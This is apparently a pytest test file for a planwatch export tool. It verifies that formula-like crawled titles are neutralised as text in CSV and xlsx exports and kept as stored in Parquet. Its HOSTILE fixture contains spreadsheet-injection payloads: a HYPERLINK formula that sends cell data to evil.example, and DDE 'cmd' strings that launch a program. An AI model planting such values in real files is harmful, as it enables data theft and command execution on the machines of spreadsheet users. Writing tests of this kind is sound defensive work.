"""Crawled titles that a spreadsheet would run as formulas, through `planwatch export` of every format, the
review CSV export and the report CSV: each comes out as text (CSV: a leading apostrophe; xlsx: a string cell
with the quote prefix), never as a live formula; Parquet keeps the data exactly as stored."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from pipeline import export_labels
from pipeline.cellguard import as_text, is_formula_like
from planwatch.cli import app
from planwatch.config import Paths
from tests.support.warehouse import classification, document, seed, source

HOSTILE = {
    "f-eq": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "f-plus": "+cmd|' /C calc'!A0",
    "f-minus": "-2+3+cmd|' /C calc'!A0",
    "f-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "f-tab": "\t=1+1",
    "f-cr": "\r=1+1",
}
PLAIN = "Bồi dưỡng giáo viên mầm non = chất lượng"


@pytest.fixture
def hostile_home(home: Paths) -> Paths:
    docs = [document(doc_id, "2022-06-01", title=title) for doc_id, title in HOSTILE.items()]
    docs.append(document("plain", "2022-06-02", title=PLAIN))
    seed(home, sources=[source("giaoducthoidai", "=Báo Giáo dục")], documents=docs,
         classifications=[classification(d["doc_id"], "1", "review") for d in docs])
    return home


def _export(home: Paths, fmt: str, out: Path) -> list[Path]:
    result = CliRunner().invoke(app, ["export", "--format", fmt, "--out", str(out)],
                                env={"PLANWATCH_HOME": str(home.home)})
    assert result.exit_code == 0, result.output
    return [Path(p) for p in result.output.split()]


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_export_writes_formula_like_text_as_text(hostile_home: Paths, tmp_path: Path) -> None:
    _export(hostile_home, "csv", tmp_path)
    rows = _csv_cells(tmp_path / "documents.csv")
    header = rows[0]
    titles = {r[header.index("doc_id")]: r[header.index("title")] for r in rows[1:]}
    for doc_id, title in HOSTILE.items():
        assert titles[doc_id] == "'" + title
    assert titles["plain"] == PLAIN
    for name in ("matches.csv", "review_queue.csv", "documents.csv"):
        for row in _csv_cells(tmp_path / name)[1:]:
            assert not any(is_formula_like(cell) for cell in row), (name, row)
    # numbers stay numbers
    with duckdb.connect() as conn:
        cov = conn.execute("SELECT planned FROM read_csv(?) LIMIT 1", [str(tmp_path / "coverage.csv")]).fetchone()
    assert cov is not None and isinstance(cov[0], int)


def test_xlsx_export_stores_formula_like_text_as_strings(hostile_home: Paths, tmp_path: Path) -> None:
    (path,) = _export(hostile_home, "xlsx", tmp_path)
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    docs = book["documents"]
    header = [c.value for c in docs[1]]
    doc_col, title_col = header.index(export_labels.header("doc_id")), header.index(export_labels.header("title"))
    by_id = {row[doc_col].value: row[title_col] for row in docs.iter_rows(min_row=2)}
    for doc_id, title in HOSTILE.items():
        cell = by_id[doc_id]
        # openpyxl drops the control characters Excel refuses; what is left is stored as quoted text
        assert cell.value == title.replace("\t", "").replace("\r", "") or cell.value == title
        if is_formula_like(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix
    assert by_id["plain"].value == PLAIN


def test_parquet_export_keeps_the_data_as_stored(hostile_home: Paths, tmp_path: Path) -> None:
    _export(hostile_home, "parquet", tmp_path)
    with duckdb.connect() as conn:
        got = dict(conn.execute("SELECT doc_id, title FROM read_parquet(?)",
                                [str(tmp_path / "documents.parquet")]).fetchall())
    assert {k: got[k] for k in HOSTILE} == HOSTILE


def test_review_csv_and_report_csv_use_the_same_guard(hostile_home: Paths, tmp_path: Path) -> None:
    runner, env = CliRunner(), {"PLANWATCH_HOME": str(hostile_home.home)}
    out = tmp_path / "queue.csv"
    assert runner.invoke(app, ["review", "export", str(out)], env=env).exit_code == 0
    rows = _csv_cells(out)
    header = rows[0]
    titles = sorted(r[header.index("title")] for r in rows[1:])
    assert titles == sorted([as_text(t) for t in HOSTILE.values()] + [PLAIN])
    assert all(r[header.index("outlet")] == "'=Báo Giáo dục" for r in rows[1:])
    report = runner.invoke(app, ["report", "--format", "csv"], env=env)
    assert report.exit_code == 0
    assert not any(is_formula_like(c) for row in csv.reader(io.StringIO(report.output)) for c in row)


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_the_guard_itself(value: str) -> None:
    assert is_formula_like(value) and as_text(value) == "'" + value
    assert not is_formula_like(as_text(value))
    assert as_text(5) == 5 and as_text(None) is None and as_text("mầm non") == "mầm non"
